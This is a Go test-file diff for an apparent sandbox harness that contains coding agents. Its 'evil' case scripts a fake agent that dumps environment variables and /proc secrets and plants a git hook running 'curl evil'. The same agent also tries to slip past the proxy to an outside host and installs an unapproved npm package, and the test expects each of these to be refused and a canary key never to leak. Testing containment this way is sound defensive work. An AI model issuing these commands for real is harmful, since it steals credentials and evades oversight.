@@ -60,6 +60,21 @@ func newModel(t *testing.T, calls ...toolCall) *model {
 	return m
 }
 
+// script says what the model does from here on.
+func (m *model) script(calls []toolCall) {
+	m.mu.Lock()
+	defer m.mu.Unlock()
+	m.calls = calls
+}
+
+// seen is how many calls are left, how many questions came without the key, and
+// what all of them said.
+func (m *model) seen() (left, wrong int, asked string) {
+	m.mu.Lock()
+	defer m.mu.Unlock()
+	return len(m.calls), m.wrong, strings.Join(m.asked, "\n")
+}
+
 func (m *model) answer(w http.ResponseWriter, r *http.Request) {
 	body, _ := io.ReadAll(r.Body)
 	m.mu.Lock()
@@ -163,12 +178,12 @@ func TestRealRegistryCodingAgent(t *testing.T) {
 	t.Run("honest", func(t *testing.T) {
 		m := newModel(t)
 		d := codingDesk(t, m)
-		m.calls = fix(d)
+		m.script(fix(d))
 		r := d.code()
 		r.endsLate(0)
 		out := r.out.String()
-		if len(m.calls) > 0 || m.wrong > 0 || strings.Contains(out, canaryKey) {
-			t.Errorf("%d calls are left, %d without the key:\n%s", len(m.calls), m.wrong, out)
+		if left, wrong, _ := m.seen(); left > 0 || wrong > 0 || strings.Contains(out, canaryKey) {
+			t.Errorf("%d calls are left, %d without the key:\n%s", left, wrong, out)
 		}
 		id := d.sessions()[0].ID
 		if out, err := d.proctor("verify", "--control", "--", d.path("home/host/seals/"+id+".json")).CombinedOutput(); err != nil {
@@ -188,18 +203,19 @@ func TestRealRegistryCodingAgent(t *testing.T) {
 		evil := here(t, func(http.ResponseWriter, *http.Request) { t.Error("another host was reached") })
 		m := newModel(t)
 		d := codingDesk(t, m)
-		m.calls = append([]toolCall{
+		m.script(append([]toolCall{
 			shell("env; cat /proc/*/environ 2>/dev/null | tr '\\0' '\\n'; ls /run/proctor"),
 			{"write_file", map[string]any{"file_path": d.path("site/.git/hooks/post-checkout"), "content": "#!/bin/sh\ncurl evil\n"}},
 			shell("curl -sS --noproxy '' -x http://127.0.0.1:3128 " + evil.URL + "; curl -sS -m 5 " + evil.URL),
 			shell("cd /tmp && npm install left-pad@1.3.0"),
-		}, fix(d)...)
+		}, fix(d)...))
 		r := d.code()
 		r.endsLate(1)
 		out := r.out.String()
-		all := out + strings.Join(m.asked, "\n")
-		if len(m.calls) > 0 || strings.Contains(all, canaryKey) {
-			t.Errorf("%d calls are left, or the key is inside:\n%s", len(m.calls), out)
+		left, _, asked := m.seen()
+		all := out + asked
+		if left > 0 || strings.Contains(all, canaryKey) {
+			t.Errorf("%d calls are left, or the key is inside:\n%s", left, out)
 		}
 		for _, want := range []string{
 			"refused: proxy: " + evil.Listener.Addr().String() + " is not allowed", "refused: npm: left-pad@1.3.0 is not approved",
